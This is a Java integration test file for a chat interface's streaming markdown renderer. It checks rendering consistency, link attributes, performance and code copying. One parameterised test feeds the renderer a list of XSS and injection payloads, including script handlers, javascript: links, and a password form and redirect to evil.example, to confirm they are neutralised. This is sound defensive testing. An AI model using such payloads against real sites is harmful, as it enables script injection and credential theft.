package io.jarvas.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/// A model's markdown on the page, at every moment of its coming.
class MarkdownIT {
    /// `write(text, open)` into a view on the page.
    private static final String VIEW = """
            const { Markdown } = await import(assets + "chat/markdown.js");
            const words = { copy: "Copy", copied: "Copied", code: "Code", table: "Table" };
            const view = () => {
              const made = new Markdown(words);
              document.body.append(made.element);
              return made;
            };
            window.had = [];
            """;

    @TempDir
    private static Path directory;

    private static ChatPage page;

    @BeforeAll
    static void start() throws IOException {
        page = new ChatPage(directory);
        page.desktop();
    }

    @AfterAll
    static void stop() {
        page.close();
    }

    @AfterEach
    void theConsoleIsEmpty() {
        assertThat(page.console()).isEmpty();
    }

    static List<String> samples() {
        return List.of(
                "Hello **bold** and *em* and `code` and ~~gone~~ text with snake_case_name and 2*3 = 6.",
                "# Title\n\nText **one\ntwo** three\n\n- a\n- b **x**\n  - nested `c`\n  - d\n- e\n\nafter",
                "- a\n- b\n\n- c with space around it\n\nend",
                "1. one\n2. two\n10. ten\n\n    more of ten\n\ntext",
                "- [ ] open\n- [x] done **b**\n",
                "Here:\n| a | b |\n|---|:-:|\n| 1 | **x** |\n| 3 | 4 |\n| 5 | `p` |\n\nAfter | it",
                "a | b\n--- | ---\n1 | 2\n3 | 4",
                "| just | one row |",
                "```python\nprint('x')\nfor i in `x`:\n```\ndone ```` x",
                "~~~\ncode ~~ x\n~~~\nafter",
                "- item\n  ```js\n  let a = 1;\n  ```\n- next",
                "1. Step\n\n   ```sh\n   ls | wc\n   ```\n\n2. Next **x**",
                "See [the docs](https://example.com/a_(b)?x=1 \"T\") and [1] and [x] end. ![pic](http://x/y.png) ok",
                "A link https://example.com/path?a=b&c=d, and <https://e.org/x> and mail a@b.pt &amp; AT&T",
                "> quote **bold\n> more** text\n>\n> - list\n\npara",
                "para\n---\nnext\n\n***\n\nend",
                "text\n===\nnext",
                "* a\n* b\n\n+ c\n+ d\n\n1) x\n2) y",
                "***both*** and **a *b* c** and _u_ __v__ **unclosed and *open",
                "<b>raw</b> <script>alert(1)</script> a<br>b <br/> c < d",
                "line one\nline two  \nline three\\\nfour",
                "    indented code\n    more\n\ntext",
                "Um número: 3.5 e 2) coisa\n2. item",
                "a\\*b\\*c \\[x\\] \\`",
                "- **Key**: value\n- **Other**: [link](https://x.y)\n",
                "[ref]: https://x.y\n\n[ref] text",
                "a `b``c` d ``e`f`` g",
                "**Note:** text\n\n\n\nmore\n\n",
                "- a\n\n  para of a\n\n      code\n- b",
                "x\r\ny\r\n\r\n- z\r\n",
                "(see [a](https://a.b/c)) [link [nested]](https://q.r) [t](javascript:alert(1)) [r](/rel)",
                "A *sentence* of a **long paragraph**, with `code. In it` and [a link. In it](https://x.y). "
                        .repeat(30),
                "An *open. Sentence that is never ended, and more. ".repeat(40) + "\n\nend",
                "😀 **ção** — „quoted“ 日本語 *テキスト*\n\n- é\n- ü");
    }

    @ParameterizedTest
    @MethodSource("samples")
    void whatCameInAnyPiecesLooksAsIfItHadComeAtOnce(String sample) {
        String differing = (String) page.script(VIEW + """
                        const [text] = values;
                        const whole = view();
                        whole.write(text, false);
                        const problems = [];
                        for (const step of text.length > 1_000 ? [37] : [1, 2, 3, 7]) {
                          const growing = view();
                          for (let end = step; end < text.length; end += step) growing.write(text.slice(0, end), true);
                          growing.write(text, false);
                          if (growing.element.innerHTML !== whole.element.innerHTML) problems.push(growing.element.innerHTML);
                          growing.element.remove();
                        }
                        const html = whole.element.innerHTML;
                        whole.element.remove();
                        return problems.length ? `${problems[0]} instead of ${html}` : "";
                        """, sample);

        assertThat(differing).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Some **bold words** and *more* and ***both*** of it.",
                "A `piece of code` and ``another ` one``.",
                "Go to [the page](https://example.com/a) now.",
                "# A title\n\n## Another\n\ntext",
                "- one\n- two\n  - three\n\n1. first\n2. second",
                "Look:\n\n| a | b |\n|---|---|\n| one | **two** |\n| three | four |\n\nThat is all.",
                "So:\n\n```java\nint a = b * c;\n```\n\nDone.",
                "> quoted **words**\n\nafter",
                "One\n\n---\n\nTwo ~~three~~",
                "- [ ] milk\n- [x] bread",
            })
    void nothingIsShownThatIsTakenBack(String sample) {
        List<?> taken = (List<?>) page.script(VIEW + """
                        const [text] = values;
                        const growing = view();
                        const shown = () => growing.element.textContent.replaceAll("Copy", "").replace(/\\s+/g, "");
                        const taken = [];
                        let before = "";
                        for (let end = 1; end <= text.length; end++) {
                          growing.write(text.slice(0, end), end < text.length);
                          const now = shown();
                          if (!now.startsWith(before)) taken.push(`${before} -> ${now}`);
                          before = now;
                        }
                        growing.element.remove();
                        return taken;
                        """, sample);

        assertThat(taken).isEmpty();
    }

    @Test
    void whatIsSettledStaysTheSameNodes() {
        Object kept = page.script(VIEW + """
                const growing = view();
                const text = "First.\\n\\n- one\\n- two\\n- three\\n\\n| a |\\n|---|\\n| 1 |\\n| 2 |\\n| 3 |\\n\\nlast words";
                growing.write(text.slice(0, 30), true);
                const paragraph = growing.element.querySelector("p");
                const item = growing.element.querySelector("li");
                growing.write(text.slice(0, 55), true);
                const row = growing.element.querySelector("tbody tr");
                growing.write(text.slice(0, -3), true);
                growing.write(text, false);
                const whole = paragraph.isConnected && item.isConnected && row.isConnected;
                growing.element.remove();
                return whole;
                """);

        assertThat(kept).isEqualTo(true);
    }

    @Test
    void linksLeadOutsideAndTellNothing() {
        List<?> links = (List<?>) page.script(VIEW + """
                const made = view();
                made.write("[a](https://a.example/) [b](mailto:b@c.pt) [c](tel:112) https://d.example ![e](https://e.example/e.png)", false);
                const links = [...made.element.querySelectorAll("a")].map((a) => `${a.href} ${a.target} ${a.rel}`);
                made.element.remove();
                return links;
                """);

        assertThat(links)
                .isEqualTo(List.of(
                        "https://a.example/ _blank noopener noreferrer",
                        "mailto:b@c.pt _blank noopener noreferrer",
                        "tel:112 _blank noopener noreferrer",
                        "https://d.example/ _blank noopener noreferrer",
                        "https://e.example/e.png _blank noopener noreferrer"));
    }

    static List<String> hostile() {
        return List.of(
                "<script>had.push(1)</script>",
                "<img src=x onerror=had.push(1)>",
                "<svg onload=had.push(1)><script>had.push(1)</script></svg>",
                "<svg><animate onbegin=had.push(1) attributeName=x dur=1s></svg>",
                "<iframe srcdoc=\"<script>parent.had.push(1)</script>\"></iframe>",
                "<object data=\"javascript:had.push(1)\"></object><embed src=\"javascript:had.push(1)\">",
                "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
                "<form action=//evil.example><input name=password><button>Send</button></form>",
                "<a href=\"javascript:had.push(1)\">x</a>",
                "<div style=\"position:fixed;inset:0\" id=log class=log name=body>over all</div>",
                "<base href=//evil.example><meta http-equiv=refresh content=\"0;url=//evil.example\">",
                "<math><mtext><table><mglyph><style><img src=x onerror=had.push(1)></style></mglyph></table></mtext></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=had.push(1)>\">",
                "<template><img src=x onerror=had.push(1)></template><slot name=voice></slot>",
                "<jarvas-chat token=x></jarvas-chat><video src=x onerror=had.push(1)></video>",
                "<details open ontoggle=had.push(1)><summary>x</summary></details>",
                "[x](javascript:had.push(1)) [x](JaVaScRiPt:had.push(1)) [x](java\tscript:had.push(1))",
                "[x](&#106;avascript:had.push(1)) [x](data:text/html,<script>had.push(1)</script>)",
                "[x](vbscript:had.push(1)) [x](blob:https://evil.example/x) [x](file:///etc/passwd) [x](//evil.example)",
                "[x](https://ok.example \"\\\" onmouseover=had.push(1) x=\\\"\")",
                "![x](https://evil.example/track.png) ![x\" onerror=\"had.push(1)](x)",
                "![x](data:image/svg+xml,<svg onload=had.push(1)>)",
                "<javascript:had.push(1)> <https://ok.example/\"onclick=\"had.push(1)>",
                "```\"><img src=x onerror=had.push(1)>\ncode</code></pre><script>had.push(1)</script>\n```",
                "`</code><img src=x onerror=had.push(1)>`",
                "| a | b |\n|---|---|\n| <img src=x onerror=had.push(1)> | [x](javascript:had.push(1)) |",
                "- <script>had.push(1)</script>\n  - <img src=x onerror=had.push(1)>\n> <svg onload=had.push(1)>",
                "# <img src=x onerror=had.push(1)>\n\n[ref]\n\n[ref]: javascript:had.push(1)",
                "&lt;img src=x onerror=had.push(1)&gt; &#60;script&#62;had.push(1)&#60;/script&#62;",
                "<br onclick=had.push(1)> <br/onclick=had.push(1)> <BR>",
                "<!-- <img src=x onerror=had.push(1)> --> <![CDATA[<script>had.push(1)</script>]]> <?php x ?>",
                "\u202etxt.exe\u202c \u0000<img src=x\u0000 onerror=had.push(1)>");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void hostileMarkupDoesNothingAtAnyMoment(String sample) {
        List<?> found = (List<?>) page.script(VIEW + """
                        const [text] = values;
                        const made = view();
                        const allowed = "P BR STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE H3 H4 H5 H6 TABLE THEAD TBODY TR TH TD HR A DIV SPAN BUTTON".split(" ");
                        const attributes = "href target rel title align start role aria-label tabindex type class".split(" ");
                        const problems = [];
                        const check = () => {
                          for (const element of made.element.querySelectorAll("*")) {
                            if (!allowed.includes(element.tagName.toUpperCase())) problems.push(element.outerHTML);
                            for (const { name } of element.attributes) if (!attributes.includes(name)) problems.push(`${name}: ${element.outerHTML}`);
                            if (element.className && !["code", "wide", "copy plain"].includes(element.className)) problems.push(element.outerHTML);
                            if (element.tagName === "A" && !/^(https?|mailto|tel):/.test(element.href)) problems.push(element.outerHTML);
                          }
                        };
                        for (let end = 1; end <= text.length; end++) {
                          made.write(text.slice(0, end), end < text.length);
                          check();
                        }
                        await new Promise((resolve) => setTimeout(resolve));
                        made.element.remove();
                        return [...problems, ...window.had];
                        """, sample);

        assertThat(found).isEmpty();
    }

    /// Models that lose their way repeat a few signs until they are stopped.
    @ParameterizedTest
    @ValueSource(strings = {">", "> ", "1. ", "[", "![", "[a](", "*a ", "<", "|", "- ", "`", "("})
    void signsThatAreRepeatedWithoutEndAreShownAndHoldUpNothing(String signs) {
        Object longest = page.script(VIEW + """
                        const [signs] = values;
                        const made = view();
                        const text = signs.repeat(6_000 / signs.length);
                        let longest = 0;
                        for (const end of [100, 2_000, 4_000, 4_010, 6_000]) {
                          const began = performance.now();
                          made.write(text.slice(0, end), end < 6_000);
                          longest = Math.max(longest, performance.now() - began);
                        }
                        made.write(`${text}\n\nend`, false);
                        const shown = made.element.textContent.endsWith("end");
                        made.element.remove();
                        return shown ? longest : -1;
                        """, signs);

        assertThat(((Number) longest).doubleValue()).isBetween(0.0, 1_000.0);
    }

    @Test
    void codeHasItsLanguageAndIsCopiedWithoutIt() {
        page.browser().command("Browser.grantPermissions", Map.of("permissions", List.of("clipboardReadWrite")));
        Object copied = page.script(VIEW + """
                const made = view();
                made.write("```sh\\necho 1\\necho 2\\n```\\n", false);
                const button = made.element.querySelector("button");
                const language = made.element.querySelector("span").textContent;
                button.click();
                for (let i = 0; i < 100 && button.textContent !== "Copied"; i++) await frame();
                made.element.remove();
                return `${language}|${button.textContent}|${await navigator.clipboard.readText()}`;
                """);

        assertThat(copied).isEqualTo("sh|Copied|echo 1\necho 2");
    }

    @Test
    void wideTablesAndCodeScrollInThemselves() {
        page.phone(false, "en");
        String wide = "x".repeat(300);
        page.model()
                .answer(pen -> pen.write(
                        "```\n" + wide + "\n```\n\n| a | b | c | d |\n|---|---|---|---|\n| some words in it | "
                                + "some words in it | some words in it | some words in it |\n\n" + wide));

        page.tell("Show me something wide");

        assertThat(page.browser().script("return document.documentElement.scrollWidth"))
                .isEqualTo(360L);
        assertThat(page.script("const log = all('.log')[0]; return log.scrollWidth <= log.clientWidth"))
                .isEqualTo(true);
        assertThat(page.script("return all('pre')[0].scrollWidth > all('pre')[0].clientWidth"))
                .isEqualTo(true);
        page.desktop();
    }
}
